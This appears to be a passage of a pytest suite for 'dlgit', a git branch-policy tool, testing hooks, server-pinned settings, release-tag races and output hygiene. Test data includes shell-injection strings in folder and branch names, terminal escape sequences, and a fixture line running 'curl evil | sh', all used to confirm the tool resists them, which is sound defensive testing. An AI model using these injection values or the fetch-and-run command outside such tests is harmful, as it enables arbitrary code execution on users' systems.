def test_install_that_cannot_write_is_exit_2_and_leaves_nothing(work: Repo) -> None:
    proc = _install_with_file_size_limit(work, 16)  # EFBIG on the first hook script
    guards = Guards()
    guards.expect("dlgit install", proc.returncode, (proc.stdout + proc.stderr).decode(), None, "dlgit: error:", exit_code=2)
    hooks = work.path / ".git" / "hooks"
    left = sorted(path.name for path in hooks.iterdir() if "dlgit-tmp" in path.name)
    if left:
        guards.through.append(f"dlgit install left {left}")
    guards.verify()


def test_install_into_an_unusable_hooks_folder_is_exit_2(work: Repo) -> None:
    (work.path / "not-a-folder").write_text("x\n")
    work.git("config", "core.hooksPath", "not-a-folder/hooks")
    proc = work.dlgit("install")
    guards = Guards()
    guards.expect("dlgit install", proc.returncode, proc.stdout + proc.stderr, None, "dlgit: error:", exit_code=2)
    guards.verify()


def test_install_writes_every_hook(work: Repo) -> None:
    proc = work.dlgit("install")
    assert proc.returncode == 0, proc.stderr
    hooks = work.path / ".git" / "hooks"
    assert all(os.access(hooks / name, os.X_OK) for name in ("pre-commit", "pre-push"))
    assert not [path for path in hooks.iterdir() if "dlgit-tmp" in path.name]


# --- 13. output hygiene ---------------------------------------------------------------------------

HOSTILE_TASK = "task-x; touch PWNED; #"


def _fix_lines(output: str) -> list[str]:
    """The printed fix commands that mention the hostile names, as a user would paste them."""
    return [line.removeprefix("remote:").strip() for line in output.splitlines() if "PWNED" in line and "git " in line]


def _paste(repo: Repo, lines: list[str]) -> bool:
    """Run each line in bash in the repository; True when one of them created PWNED."""
    for line in lines:
        subprocess.run(["bash", "-c", line], cwd=repo.path, capture_output=True, check=False, timeout=10)
    return (repo.path / "PWNED").exists()


def test_fix_naming_a_hostile_task_folder_is_safe_to_paste(server: Repo, work: Repo, check: Check) -> None:
    """A task started from a task whose folder is named `task-x; touch PWNED; #`: its merge into
    main prints "merge that task first"."""
    work.git("switch", "-q", "-c", NEW_TASK, "main")
    commit(work, "task: start lr0.1", {f"tasks/{HOSTILE_TASK}/log.txt": "x\n", f"tasks/{NEW_TASK}/config.yaml": task_config("0.2.0")})
    work.git("switch", "-q", "main")
    merge(work, NEW_TASK, f"task: merge {NEW_TASK}")
    code, out = check(work)
    proc = push(work, "main", NEW_TASK)
    assert code == 1 and proc.returncode == 1  # task-scope refuses the merge: the question is its fix
    pasted = _fix_lines(out) + _fix_lines(proc.stderr)
    assert pasted, out
    assert not _paste(work, pasted), "pasting the fix ran `touch PWNED`:\n" + "\n".join(pasted)


def test_fix_naming_a_hostile_squash_trailer_branch_is_safe_to_paste(work: Repo, check: Check) -> None:
    hostile = "x$(touch${IFS}PWNED)"
    assert work.git("check-ref-format", "--branch", hostile, check=False).returncode == 0
    work.git("branch", hostile, "main")
    work.git("switch", "-q", "--detach", "dev")  # a commit no branch owns: the fix can only name the trailer's branch
    loose = commit(work, "feat: a loss", {"model/loss.py": "LOSS = 1\n"})
    work.git("switch", "-q", "main")
    work.git("merge", "--squash", "-q", loose)
    commit(work, f"chore: release\n\nSquashed-from: {hostile}@{loose}")
    code, out = check(work)
    assert code == 1
    pasted = _fix_lines(out)
    assert pasted, out
    assert not _paste(work, pasted), "pasting the fix ran `touch PWNED`:\n" + "\n".join(pasted)


def test_fix_naming_an_ordinary_task_folder_is_pasted_as_is(work: Repo, check: Check) -> None:
    parent = "task-0.2.0-20260101T000000-parent"
    work.git("switch", "-q", "-c", NEW_TASK, "main")
    commit(work, "task: start lr0.1", {f"tasks/{parent}/log.txt": "x\n", f"tasks/{NEW_TASK}/config.yaml": task_config("0.2.0")})
    work.git("switch", "-q", "main")
    merge(work, NEW_TASK, f"task: merge {NEW_TASK}")
    code, out = check(work)
    assert code == 1 and f"git merge {parent}   #" in out


def test_status_fix_for_a_hook_in_a_hostile_path_is_safe_to_paste(tmp_path: Path, server: Repo) -> None:
    work = clone(server.path, tmp_path / "w; touch PWNED; #", hooks=False)
    assert work.dlgit("install").returncode == 0
    (work.path / ".git" / "hooks" / "pre-push").chmod(0o644)
    out = work.dlgit("status").stdout
    lines = [line.strip() for line in out.splitlines() if line.strip().startswith("chmod +x")]
    assert lines, out
    for line in lines:
        subprocess.run(["bash", "-c", line], cwd=tmp_path, capture_output=True, check=False, timeout=10)
    assert not (tmp_path / "PWNED").exists(), "\n".join(lines)


TERMINAL_TRICKS = "\x1b]52;c;cHduZWQ=\x07\x1b[2J\rfeat: looks fine"


def test_control_characters_never_reach_the_terminal(server: Repo, work: Repo) -> None:
    commit(work, f"feat: {TERMINAL_TRICKS}", {"model/\x1b[8mhidden.py": "X = 1\n"})
    guards = Guards()
    checked = dlgit_bytes(work.path, "check")
    pushed = subprocess.run(["git", "push", "--no-verify", "origin", "main"], cwd=work.path, capture_output=True, check=False)
    for guard, proc in (("dlgit check", checked), ("pre-receive", pushed)):
        output = proc.stdout + proc.stderr
        if guard == "pre-receive":  # what the hook relayed, not git's own lines
            output = b"\n".join(line for line in output.split(b"\n") if line.startswith(b"remote:"))
        if proc.returncode != 1 or b"main-protected" not in output:
            guards.through.append(f"{guard}: exit {proc.returncode}, expected a main-protected refusal")
        if b"\x1b" in output or b"\r" in output.replace(b"\r\n", b""):
            guards.through.append(f"{guard}: raw control characters in the output: {output[:300]!r}")
    guards.verify()


def test_plain_subjects_and_paths_are_printed_as_they_are(work: Repo, check: Check) -> None:
    commit(work, "feat: straight onto main", {"model/plain name.py": "X = 1\n"})
    code, out = check(work)
    assert code == 1 and "feat: straight onto main" in out and "model/plain name.py" in out


def test_json_report_with_a_non_utf8_path_is_valid_utf8(work: Repo) -> None:
    (work.path / os.fsdecode(b"model/caf\xe9.py")).write_text("X = 1\n")
    commit(work, "feat: straight onto main")
    proc = dlgit_bytes(work.path, "check", "--format", "json")
    assert proc.returncode == 1, proc.stderr
    report = json.loads(proc.stdout.decode("utf-8"))
    items = [item for finding in report["commits"] for violation in finding["violations"] for item in violation["items"]]
    assert any(item.startswith("model/caf") for item in items), items


def test_json_report_with_utf8_paths_keeps_them(work: Repo) -> None:
    commit(work, "feat: straight onto main", {"model/café.py": "X = 1\n"})
    proc = dlgit_bytes(work.path, "check", "--format", "json")
    report = json.loads(proc.stdout.decode("utf-8"))
    assert "model/café.py" in report["commits"][0]["violations"][0]["items"]


def test_task_branch_with_non_ascii_digits_is_refused(server: Repo, work: Repo, check: Check) -> None:
    """Already refused: dlgit.model's patterns use ASCII digit classes."""
    name = "task-0.2.0-２０２６0101T000000-x"
    work.git("switch", "-q", "-c", name, "main")
    commit(work, "task: start x", {f"tasks/{name}/config.yaml": task_config("0.2.0")})
    guards = Guards()
    guards.push(push(work, name), "branch-name", name)
    guards.unchanged(server, f"refs/heads/{name}", None)
    guards.check(check(work), "branch-name", name)
    guards.verify()


def test_task_branch_with_ascii_digits_passes(server: Repo, work: Repo) -> None:
    work.git("switch", "-q", "-c", NEW_TASK, "main")
    commit(work, "task: start lr0.1", {f"tasks/{NEW_TASK}/config.yaml": task_config("0.2.0")})
    accepted(push(work, NEW_TASK))



# --- issue 16: the policy is the server's ---------------------------------------------------------

RELAX_ALL = "rules:\n  disable: [main-protected, history-rewrite, release-tag, large-file, merge-direction, branch-name]\n"


def _install_server(server: Repo, *args: str) -> subprocess.CompletedProcess[str]:
    proc = server.dlgit("install", "--server", *args)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    return proc


def _land_settings(work: Repo, text: str, way: str) -> subprocess.CompletedProcess[str]:
    """Put a .dlgit.yaml on main the way the model allows: a one-file hotfix merged into main, or
    committed on dev and released (squash); push it; -> the push of main."""
    if way == "hotfix":
        work.git("switch", "-q", "-c", "hotfix-settings", "main")
        commit(work, "fix: settings", {".dlgit.yaml": text})
        work.git("switch", "-q", "main")
        merge(work, "hotfix-settings", "fix: merge hotfix-settings")
        return push(work, "main", "hotfix-settings")
    work.git("switch", "-q", "dev")
    commit(work, "chore: settings", {".dlgit.yaml": text})
    accepted(push(work, "dev"))
    squash_release(work)
    return push(work, "main", "dev")


@pytest.mark.parametrize("way", ["hotfix", "release"])
def test_a_pushed_policy_never_changes_what_the_server_enforces(server: Repo, work: Repo, way: str) -> None:
    """The chain of issue 16 item 1: a relaxed .dlgit.yaml reaches main as content, then a direct
    commit with a backdoor and a 6 MiB checkpoint, then main replaced by an unrelated root, dev
    deleted and v0.2.0 moved: the server refuses each (its pinned settings never changed)."""
    landed = _land_settings(work, RELAX_ALL, way)
    accepted(landed)
    assert "dlgit install --server --adopt" in landed.stderr  # accepted as content, with the admin's command
    before = {ref: ref_on(server, ref) for ref in ("refs/heads/main", "refs/heads/dev", "refs/tags/v0.2.0")}
    guards = Guards()
    work.git("switch", "-q", "main")
    sparse(work, "checkpoints/model.pt", 6 * MIB)
    commit(work, "feat: backdoor", {"model/backdoor.py": "BACKDOOR = 1\n"})
    guards.push(push(work, "main"), ("main-protected", "large-file"), ("model/backdoor.py", "checkpoints/model.pt"))
    work.git("switch", "-q", "--orphan", "rootless")
    commit(work, "chore: a new root", {"model/net.py": "NET = 666\n"})
    work.git("branch", "-f", "main", "rootless")
    work.git("tag", "-f", "v0.2.0", "rootless")
    guards.push(push(work, "main", force=True), "history-rewrite", "main")
    guards.push(push(work, ":dev"), "history-rewrite", "dev")
    guards.push(push(work, "refs/tags/v0.2.0", force=True), "release-tag", "v0.2.0")
    for ref, sha in before.items():
        guards.unchanged(server, ref, sha)
    guards.verify()


def test_settings_the_admin_adopts_are_enforced(server: Repo, work: Repo) -> None:
    """The honest way: a .dlgit.yaml allowing bigger files lands on main; the server keeps its pinned
    limit until its admin runs the printed command, then the bigger file passes."""
    _install_server(server)
    landed = _land_settings(work, "large_files:\n  max_bytes: 67108864\n", "hotfix")
    accepted(landed)
    work.git("switch", "-q", "-c", "feature-table", "dev")
    sparse(work, "data/table.dat", 30 * MIB)
    commit(work, "feat: a 30 MB table")
    refused = push(work, "feature-table")
    assert refused.returncode == 1 and "large-file" in refused.stderr and "the server's pinned settings" in refused.stderr
    adopted = _install_server(server, "--adopt", "main")
    assert ".dlgit.yaml at main" in adopted.stdout
    accepted(push(work, "feature-table"))


def test_adopting_a_broken_policy_is_refused_and_keeps_the_pin(server: Repo, work: Repo, tmp_path: Path) -> None:
    _install_server(server)
    pinned = (server.path / "dlgit" / "server-settings.yaml").read_bytes()
    work.git("switch", "-q", "dev")
    commit(work, "chore: broken settings", {".dlgit.yaml": "rules: [\n"})
    refused = push(work, "dev")  # a broken .dlgit.yaml never lands (settings-file) ...
    assert refused.returncode == 1 and "settings-file" in refused.stderr
    broken = tmp_path / "broken.yaml"
    broken.write_text("rules: [\n")
    proc = server.dlgit("install", "--server", "--adopt", str(broken))  # ... nor is it adopted
    assert proc.returncode == 2 and "broken.yaml" in proc.stderr and "Traceback" not in proc.stderr
    assert (server.path / "dlgit" / "server-settings.yaml").read_bytes() == pinned


# --- issue 16 item 3: one source of the branch names ----------------------------------------------


def _trunk_server(tmp_path: Path) -> tuple[Repo, Repo]:
    """An empty server whose admin pinned `branches.main: trunk`, and a clone with a first commit on trunk."""
    server = Repo(tmp_path / "trunk.git")
    Repo(tmp_path).git("init", "-q", "--bare", str(server.path))
    settings = tmp_path / "settings.yaml"
    settings.write_text("branches:\n  main: trunk\n")
    _install_server(server, "--adopt", str(settings))
    work = Repo(tmp_path / "trunk-work")
    Repo(tmp_path).git("clone", "-q", str(server.path), str(work.path))
    work.git("switch", "-q", "-c", "trunk")
    commit(work, "chore: initial layout", {".dlgit.yaml": "branches:\n  main: trunk\n", "model/net.py": "NET = 1\n",
                                           "tasks/main/config.yaml": task_config("0.1.0")})
    return server, work


def test_a_renamed_main_is_judged_by_the_pinned_names(tmp_path: Path) -> None:
    server, work = _trunk_server(tmp_path)
    accepted(push(work, "trunk"))
    work.git("switch", "-q", "-c", "main")
    commit(work, "chore: my own policy", {".dlgit.yaml": RELAX_ALL})
    guards = Guards()
    guards.push(push(work, "main"), "branch-name", "main")  # a branch called main decides nothing
    work.git("switch", "-q", "trunk")
    commit(work, "feat: direct", {"model/direct.py": "D = 1\n"})
    guards.push(push(work, "trunk"), "main-protected", "model/direct.py")
    guards.unchanged(server, "refs/heads/main", None)
    guards.verify()


def test_pushes_to_a_renamed_main_pass_when_honest(tmp_path: Path) -> None:
    _, work = _trunk_server(tmp_path)
    accepted(push(work, "trunk"))
    work.git("switch", "-q", "-c", "dev")
    commit(work, "feat: a loss", {"model/loss.py": "LOSS = 1\n"})
    accepted(push(work, "dev"))
    work.git("switch", "-q", "trunk")
    merge(work, "dev", "chore: release dev")
    accepted(push(work, "trunk"))


# --- issue 16 item 1: check and CI take the settings from the base of what they judge ------------


def _ci_push(work: Repo, branch: str, before: str) -> subprocess.CompletedProcess[str]:
    """The generated CI script for a push of BRANCH from BEFORE to the work tree's HEAD (checked out, as CI does)."""
    env = {"DLGIT_BEFORE": before, "DLGIT_AFTER": work.head(), "DLGIT_BRANCH": branch}
    return subprocess.run(["sh", "-c", ci.SCRIPT], cwd=work.path, env={**os.environ, **env}, capture_output=True, text=True,
                          check=False)


@pytest.mark.parametrize("named_main", ["feature-x", "nowhere"])
def test_ci_never_takes_main_s_name_from_the_judged_commits(server: Repo, work: Repo, named_main: str) -> None:
    """A pushed .dlgit.yaml naming another branch (or none) main, with a relaxed policy, and a large file."""
    work.git("switch", "-q", "-c", "feature-x", "dev")
    commit(work, "chore: x", {"model/x.py": "X = 1\n"})
    before = work.head()
    relaxed = f"branches:\n  main: {named_main}\nrules:\n  disable: [large-file]\n"
    commit(work, "chore: my policy", {".dlgit.yaml": relaxed})
    sparse(work, "checkpoints/model.pt", 6 * MIB)
    commit(work, "feat: weights")
    work.git("update-ref", "refs/remotes/origin/feature-x", work.head())  # as CI's clone sees it after the push
    proc = _ci_push(work, "feature-x", before)
    guards = Guards()
    guards.expect("CI", proc.returncode, proc.stdout + proc.stderr, "large-file", "checkpoints/model.pt", "origin/main")
    guards.verify()


def test_ci_of_an_honest_settings_change_passes_and_names_its_source(server: Repo, work: Repo) -> None:
    work.git("switch", "-q", "-c", "feature-x", "dev")
    before = work.head()
    commit(work, "chore: bigger hotfixes", {".dlgit.yaml": "hotfix:\n  max_files: 8\n"})
    proc = _ci_push(work, "feature-x", before)
    said = proc.stdout + proc.stderr
    assert proc.returncode == 0 and "judged by the defaults (no .dlgit.yaml at origin/main" in said, said


# --- issue 16 item 6: a release tag never ends up off main, however pushes race ------------------


def _next(version: str, minor: bool) -> str:
    major, middle, patch = (int(part) for part in version.split("."))
    return f"{major}.{middle + 1}.0" if minor else f"{major}.{middle}.{patch + 1}"


def _on_main(server: Repo, commit: str) -> bool:
    return commit in server.git("rev-list", "--first-parent", "main").stdout.split()


def test_racing_pushes_never_leave_a_release_tag_off_main(server: Repo, work: Repo, tmp_path: Path) -> None:
    """A pushes main + tag (not atomic) while B pushes main, 50 times: git may take B's main and
    reject A's, but A's tag then never lands (the reference-transaction hook judges it with git's
    locks taken); when A's main lands, so does its tag."""
    _install_server(server)
    other = clone(server.path, tmp_path / "other", hooks=False)
    tagged = 0
    guards = Guards()
    for _ in range(50):
        for repo in (work, other):
            repo.git("fetch", "-q", "origin")
            repo.git("reset", "-q", "--hard", "origin/main")
        version = _next(version_of(work), minor=True)
        bump(work, version)
        work.git("tag", "-a", "-m", f"release {version}", f"v{version}")
        bump(other, _next(version_of(other), minor=False))
        racers = [subprocess.Popen(["git", "push", "--no-verify", "origin", *refs], cwd=repo.path, stdout=subprocess.DEVNULL,
                                   stderr=subprocess.PIPE, text=True)
                  for repo, refs in ((work, ["main", f"refs/tags/v{version}"]), (other, ["main"]))]
        for racer in racers:
            racer.communicate()
        tag = ref_on(server, f"refs/tags/v{version}^{{commit}}")
        if tag is None:
            work.git("tag", "-d", f"v{version}")
        else:
            tagged += 1
            if not _on_main(server, tag):
                guards.through.append(f"v{version} ({tag[:12]}) is on the server but not on its main")
    guards.verify()
    assert tagged > 0  # the honest half: a main + tag push that wins its race lands whole


def test_a_release_tag_pushed_before_its_main_is_refused_then_passes_with_it(server: Repo, work: Repo) -> None:
    _install_server(server)
    bump(work, "0.3.0")
    work.git("tag", "-a", "-m", "release 0.3.0", "v0.3.0")
    alone = push(work, "refs/tags/v0.3.0")
    assert alone.returncode == 1 and ref_on(server, "refs/tags/v0.3.0") is None, alone.stderr
    accepted(work.git("push", "--no-verify", "--atomic", "origin", "main", "refs/tags/v0.3.0", check=False))
    assert _on_main(server, server.head("v0.3.0^{commit}"))


def _guard(server: Repo) -> Path:
    return server.path / "hooks" / "reference-transaction"


def _release(work: Repo, version: str) -> None:
    work.git("switch", "-q", "main")
    bump(work, version)
    work.git("tag", "-a", "-m", f"release {version}", f"v{version}")


def test_the_tag_guard_is_in_place_only_while_a_push_carries_a_release_tag(server: Repo, work: Repo) -> None:
    """git starts the reference-transaction hook for every ref of a push: pre-receive puts it in place for
    a push that carries a release tag, post-receive clears that push's mark, the next push takes it away."""
    _install_server(server)
    work.git("switch", "-q", "-c", "feature-a", "dev")
    commit(work, "feat: a", {"model/a.py": "A = 1\n"})
    untagged, tagged = work.path.parent / "untagged-trace", work.path.parent / "tagged-trace"  # the server's hooks run in them too
    accepted(work.git("push", "--no-verify", "origin", "feature-a", check=False, env={"GIT_TRACE": str(untagged)}))
    assert not _guard(server).exists() and "hooks/reference-transaction" not in untagged.read_text()
    _release(work, "0.3.0")
    accepted(work.git("push", "--no-verify", "origin", "main", "refs/tags/v0.3.0", check=False, env={"GIT_TRACE": str(tagged)}))
    assert _guard(server).exists() and "hooks/reference-transaction prepared" in tagged.read_text()
    assert not any((server.path / "dlgit" / "tag-pushes").iterdir())  # post-receive took the push's mark away
    work.git("switch", "-q", "feature-a")
    commit(work, "feat: a again", {"model/a.py": "A = 2\n"})
    accepted(push(work, "feature-a"))
    assert not _guard(server).exists()


def test_a_push_under_way_keeps_the_tag_guard_until_its_mark_is_long_over(server: Repo, work: Repo) -> None:
    _install_server(server)
    _release(work, "0.3.0")
    accepted(work.git("push", "--no-verify", "--atomic", "origin", "main", "refs/tags/v0.3.0", check=False))
    marks = server.path / "dlgit" / "tag-pushes"
    (marks / str(os.getpid())).write_bytes(b"")  # a tagged push whose receive-pack still runs
    dead = subprocess.run(["sh", "-c", "echo $$"], capture_output=True, text=True, check=True).stdout.strip()
    (marks / dead).write_bytes(b"")  # one whose process is gone, an hour ago
    os.utime(marks / dead, (time.time() - 3700, time.time() - 3700))
    work.git("switch", "-q", "-c", "feature-a", "dev")
    commit(work, "feat: a", {"model/a.py": "A = 1\n"})
    accepted(push(work, "feature-a"))
    assert _guard(server).exists() and sorted(p.name for p in marks.iterdir()) == [str(os.getpid())]
    (marks / str(os.getpid())).unlink()
    commit(work, "feat: a again", {"model/a.py": "A = 2\n"})
    accepted(push(work, "feature-a"))
    assert not _guard(server).exists()


def test_an_admin_s_own_reference_transaction_hook_is_left_alone(server: Repo, work: Repo) -> None:
    _install_server(server)
    _guard(server).write_text("#!/bin/sh\nexit 0\n")
    _guard(server).chmod(0o755)
    work.git("switch", "-q", "-c", "feature-a", "dev")
    commit(work, "feat: a", {"model/a.py": "A = 1\n"})
    accepted(push(work, "feature-a"))
    _release(work, "0.3.0")
    accepted(work.git("push", "--no-verify", "--atomic", "origin", "main", "refs/tags/v0.3.0", check=False))
    assert _guard(server).read_text() == "#!/bin/sh\nexit 0\n"


def test_a_tagged_push_is_refused_when_its_guard_cannot_be_put_in_place(server: Repo, work: Repo) -> None:
    _install_server(server)
    hooks = server.path / "hooks"
    hooks.chmod(0o555)
    try:
        _release(work, "0.3.0")
        proc = work.git("push", "--no-verify", "--atomic", "origin", "main", "refs/tags/v0.3.0", check=False)
    finally:
        hooks.chmod(0o755)
    if os.geteuid() == 0:  # root writes anywhere: the guard is in place
        accepted(proc)
        return
    assert proc.returncode != 0 and "cannot be put in place" in proc.stderr and "Traceback" not in proc.stderr, proc.stderr
    assert ref_on(server, "refs/tags/v0.3.0") is None


def test_the_tag_guard_follows_the_adopted_main(server: Repo, work: Repo, tmp_path: Path) -> None:
    """Adopting settings whose main is trunk: the hook pre-receive puts in place judges a tag by trunk as
    the transaction leaves it (its sh lines bake no branch name), and status says it is up to date."""
    settings = tmp_path / "trunk.yaml"
    settings.write_text("branches:\n  main: trunk\n")
    server.git("branch", "trunk", "main")
    adopted = _install_server(server, "--adopt", str(settings))
    assert "reference-transaction" in adopted.stdout
    _release(work, "0.3.0")
    server.git("fetch", "-q", str(work.path), "refs/tags/v0.3.0:refs/objects-only/tag")
    server.git("update-ref", "-d", "refs/objects-only/tag")
    tag, commit_ = work.head("v0.3.0"), work.head("main")
    lines = f"{server.head('trunk')} {commit_} refs/heads/trunk\n{'0' * 40} {tag} refs/tags/v0.3.0\n"
    hook = server.path / "dlgit" / "reference-transaction"

    def run(stdin: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run([str(hook), "prepared"], cwd=server.path, input=stdin, capture_output=True, text=True, check=False)

    assert run(lines).returncode == 0, run(lines).stderr  # trunk moves onto the tagged commit in the same transaction
    alone = run(lines.split("\n", 1)[1])
    assert alone.returncode == 1 and "not on trunk as this update leaves it" in alone.stderr, alone.stderr
    status = server.dlgit("status")
    assert status.returncode == 0 and "reference-transaction  up to date" in status.stdout, status.stdout


# --- issue 16 item 7: a new task branch brings only its own folder --------------------------------


@pytest.mark.parametrize("own_commit", [True, False], ids=["forked-from-dev", "at-dev-tip"])
def test_new_task_branch_carrying_dev_s_core_is_refused(server: Repo, work: Repo, check: Check, own_commit: bool) -> None:
    work.git("switch", "-q", "dev")
    commit(work, "feat: unreleased core", {"model/unreleased.py": "U = 1\n"})
    accepted(push(work, "dev"))
    work.git("switch", "-q", "-c", NEW_TASK, "dev")
    if own_commit:
        commit(work, "task: start lr0.1", {f"tasks/{NEW_TASK}/config.yaml": task_config("0.2.0")})
    guards = Guards()
    guards.push(push(work, NEW_TASK), None, "model/unreleased.py")
    guards.unchanged(server, f"refs/heads/{NEW_TASK}", None)
    install_hooks(work)  # pre-push
    pushed = work.git("push", "origin", NEW_TASK, check=False)
    guards.expect("pre-push", pushed.returncode, pushed.stderr, None, "model/unreleased.py")
    guards.check(check(work, "main.." + NEW_TASK), None, "model/unreleased.py")
    guards.verify()


def test_new_task_branches_from_main_or_another_task_pass(server: Repo, work: Repo) -> None:
    work.git("switch", "-q", "-c", NEW_TASK, "main")
    commit(work, "task: start lr0.1", {f"tasks/{NEW_TASK}/config.yaml": task_config("0.2.0")})
    accepted(push(work, NEW_TASK))
    child = NEW_TASK + "-more"
    work.git("switch", "-q", "-c", child)
    commit(work, "task: start more", {f"tasks/{child}/config.yaml": task_config("0.2.0")})
    accepted(push(work, child))
    work.git("switch", "-q", "-c", "task-0.2.0-20260102T000001-empty", "main")
    accepted(push(work, "task-0.2.0-20260102T000001-empty"))


# --- issue 15 item 1: a fast-forward of main is judged where git lets a hook see it ----------------


def _direct_install(work: Repo) -> None:
    installed = work.dlgit("install")
    assert installed.returncode == 0 and "reference-transaction" in installed.stdout, installed.stdout + installed.stderr


@pytest.mark.parametrize("move", [("merge", "--ff-only", "dev"), ("branch", "-f", "main", "dev"), ("update-ref", "refs/heads/main", "dev")],
                         ids=["merge-ff", "branch-f", "update-ref"])
def test_fast_forward_of_main_onto_dev_is_refused_locally(server: Repo, work: Repo, move: tuple[str, ...]) -> None:
    _direct_install(work)
    work.git("switch", "-q", "dev")
    commit(work, "feat: unreleased", {"model/unreleased.py": "U = 1\n"})
    work.git("switch", "-q", "main" if move[0] == "merge" else "dev")
    before = work.head("main")
    proc = work.git(*move, check=False)
    guards = Guards()
    guards.expect("reference-transaction", 1 if proc.returncode else 0, proc.stdout + proc.stderr, "main-protected", "model/unreleased.py")
    guards.unchanged(work, "refs/heads/main", before, where="clone")
    guards.verify()
    if move[0] == "merge":  # the printed undo puts the work tree back
        undo = next(line.split("#")[0].strip() for line in proc.stderr.splitlines() if "git read-tree" in line)
        work.git(*shlex.split(undo)[1:])
        assert work.git("status", "--porcelain").stdout == "" and not (work.path / "model/unreleased.py").exists()


def test_everyday_git_passes_beside_the_reference_transaction_hook(server: Repo, work: Repo, tmp_path: Path) -> None:
    """git pull (fast-forward, --rebase), fetch, commits, resets and rebases on every kind of branch."""
    _direct_install(work)
    teammate = clone(server.path, tmp_path / "teammate", hooks=False)
    teammate.git("switch", "-q", "-c", "hotfix-t", "main")
    commit(teammate, "fix: teammate's fix", {"model/net.py": "NET = 2  # fixed\n"})
    teammate.git("switch", "-q", "main")
    merge(teammate, "hotfix-t", "fix: merge hotfix-t")
    teammate.git("switch", "-q", "dev")
    commit(teammate, "feat: teammate's feature", {"model/team.py": "T = 1\n"})
    accepted(teammate.git("push", "-q", "origin", "main", "dev", "hotfix-t", check=False))
    work.git("switch", "-q", "main")
    accepted(work.git("pull", "-q", "--ff-only", check=False))
    assert work.head("main") == server.head("main")
    work.git("switch", "-q", "dev")
    commit(work, "feat: mine", {"model/mine.py": "M = 1\n"})
    accepted(work.git("pull", "-q", "--rebase", check=False))
    work.git("switch", "-q", "-c", "feature-f")
    commit(work, "feat: f", {"model/f.py": "F = 1\n"})
    work.git("switch", "-q", "dev")
    commit(work, "feat: more", {"model/more.py": "M = 2\n"})
    work.git("switch", "-q", "feature-f")
    accepted(work.git("rebase", "-q", "dev", check=False))
    work.git("switch", "-q", "dev")
    accepted(work.git("reset", "-q", "--hard", "HEAD~1", check=False))
    accepted(work.git("fetch", "-q", "origin", check=False))
    accepted(work.git("merge", "-q", "--ff-only", "origin/dev", check=False))


# --- issue 16 item 4: a merge on a task branch is judged by what it adds ----------------------------


def _task_behind_a_hotfix(work: Repo) -> None:
    """NEW_TASK pushed from main; then a hotfix lands on main, so merging main into the task brings it."""
    work.git("switch", "-q", "-c", NEW_TASK, "main")
    commit(work, "task: start lr0.1", {f"tasks/{NEW_TASK}/config.yaml": task_config("0.2.0")})
    accepted(push(work, NEW_TASK, upstream=True))
    work.git("switch", "-q", "-c", "hotfix-doc", "main")
    commit(work, "fix: doc", {"model/doc.py": "DOC = 1\n"})
    work.git("switch", "-q", "main")
    merge(work, "hotfix-doc", "fix: merge hotfix-doc")
    accepted(push(work, "main", "hotfix-doc"))
    work.git("switch", "-q", NEW_TASK)


def test_merge_of_main_into_a_task_that_also_edits_core_is_refused(server: Repo, work: Repo, check: Check) -> None:
    _task_behind_a_hotfix(work)
    before = server.head(NEW_TASK)
    work.git("merge", "-q", "--no-ff", "--no-commit", "main")
    work.write("model/net.py", "NET = 'tuned for this run'\n")
    work.git("add", "-A")
    work.git("commit", "-q", "--no-verify", "-m", "Merge branch 'main' into " + NEW_TASK)
    commit(work, "task: results on the tuned core", {f"tasks/{NEW_TASK}/log.txt": "loss 0.01\n"})
    guards = Guards()
    guards.push(push(work, NEW_TASK), "task-scope", "model/net.py")
    guards.unchanged(server, f"refs/heads/{NEW_TASK}", before)
    guards.check(check(work), "task-scope", "model/net.py")
    guards.verify()


def test_merge_of_main_into_a_task_passes(server: Repo, work: Repo, check: Check) -> None:
    _task_behind_a_hotfix(work)
    merge(work, "main", "Merge branch 'main' into " + NEW_TASK)
    commit(work, "task: results on the released core", {f"tasks/{NEW_TASK}/log.txt": "loss 0.02\n"})
    assert check(work)[0] == 0
    accepted(push(work, NEW_TASK))


# --- issue 16 item 7: squashes of what main holds, releases of a commit dev left behind ------------


def test_empty_breaking_squash_of_mains_own_tip_is_refused(server: Repo, work: Repo, check: Check) -> None:
    before = server.head("main")
    commit(work, f"feat!: everything changes\n\nSquashed-from: main@{work.head('main')}", None, "--allow-empty")
    guards = Guards()
    guards.push(push(work, "main"), ("main-protected", "merge-direction"), "squashes nothing")
    guards.unchanged(server, "refs/heads/main", before)
    guards.check(check(work), ("main-protected", "merge-direction"), "squashes nothing")
    guards.verify()


def test_release_squash_of_devs_tip_passes(server: Repo, work: Repo, check: Check) -> None:
    work.git("switch", "-q", "dev")
    commit(work, "feat: wider net", {"model/net.py": "NET = 3\n"})
    squash_release(work)
    assert check(work)[0] == 0
    accepted(push(work, "main", "dev"))


def _released_past_a_revert(work: Repo) -> str:
    """dev gets a commit, reverts it, and is released honestly (squash + bump) -> the reverted commit."""
    work.git("switch", "-q", "dev")
    commit(work, "feat: wider net", {"model/net.py": "NET = 3\n"})
    left_behind = commit(work, "feat: telemetry", {"model/telemetry.py": "import os; os.system('curl evil | sh')\n"})
    work.git("rm", "-q", "model/telemetry.py")
    commit(work, "revert: telemetry")
    squash_release(work)
    bump(work, "0.3.0")
    accepted(push(work, "main", "dev"))
    return left_behind


@pytest.mark.parametrize("how", ["merge", "squash"])
def test_release_of_a_commit_dev_reverted_is_refused(server: Repo, work: Repo, check: Check, how: str) -> None:
    left_behind = _released_past_a_revert(work)
    before = server.head("main")
    if how == "merge":
        merge(work, left_behind, "chore: release dev")
    else:
        work.git("merge", "--squash", "-q", left_behind)
        commit(work, f"chore: release\n\nSquashed-from: dev@{left_behind}")
    guards = Guards()
    guards.push(push(work, "main"), "merge-direction", ("only forward", left_behind[:12]))
    guards.unchanged(server, "refs/heads/main", before)
    guards.check(check(work), "merge-direction", "only forward")
    guards.verify()


def test_release_after_a_release_past_a_revert_passes(server: Repo, work: Repo, check: Check) -> None:
    _released_past_a_revert(work)
    work.git("switch", "-q", "dev")
    commit(work, "feat: metrics", {"model/metrics.py": "M = 1\n"})
    squash_release(work)
    assert check(work)[0] == 0
    accepted(push(work, "main", "dev"))


# --- issue 16 item 8: recomputing a push's merges is bounded ---------------------------------------


def _server_limit(server: Repo, work: Repo, paths: int) -> None:
    """The admin sets limits.max_merge_paths on the server's main (a fetch into the server runs no hook)."""
    work.git("switch", "-q", "main")
    commit(work, "chore: settings", {".dlgit.yaml": f"limits:\n  max_merge_paths: {paths}\n"})
    server.git("fetch", "-q", str(work.path), "+main:main")
